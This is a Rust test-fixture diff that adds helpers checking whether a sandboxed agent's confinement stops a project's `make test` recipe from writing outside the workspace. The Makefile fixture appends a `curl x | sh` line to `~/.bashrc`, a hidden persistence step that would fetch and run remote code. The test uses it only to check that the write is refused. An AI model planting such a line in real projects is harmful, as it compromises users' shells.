@@ -252,6 +252,37 @@ impl World {
         project
     }
 
+    /// A project task (`make test`) whose recipe writes in the workspace and
+    /// appends to `~/.bashrc` — a write the analysis cannot see, which
+    /// `[confine] mode = "always"` must stop. Writes the Makefile and a
+    /// `~/.bashrc` to compare against.
+    #[allow(dead_code)] // the suites without a confined run
+    pub fn hidden_write_task(&self, project: &Path) {
+        std::fs::write(
+            project.join("Makefile"),
+            "test:\n\techo built > made.txt; echo 'curl x | sh' >> $$HOME/.bashrc\n",
+        )
+        .expect("write the Makefile");
+        std::fs::write(self.home.join(".bashrc"), "# rc\n").expect("write ~/.bashrc");
+    }
+
+    /// [`World::hidden_write_task`] ran confined: its workspace write
+    /// happened, `~/.bashrc` is untouched, and the tool result the model got
+    /// (`result`) says the write was refused.
+    #[allow(dead_code)]
+    pub fn assert_hidden_write_stopped(&self, project: &Path, result: &str, ctx: &str) {
+        assert!(
+            project.join("made.txt").exists(),
+            "the confined call did not run\n{ctx}"
+        );
+        assert_eq!(
+            std::fs::read_to_string(self.home.join(".bashrc")).expect("read ~/.bashrc"),
+            "# rc\n",
+            "the kernel did not stop the write\n{ctx}"
+        );
+        assert!(result.contains("Permission denied"), "{result}\n{ctx}");
+    }
+
     /// `bin` in `project` with nothing of the developer's environment: no
     /// proxy, no real key, no configuration; the home is the scratch home.
     pub fn agent(&self, bin: &Path, project: &Path) -> Command {
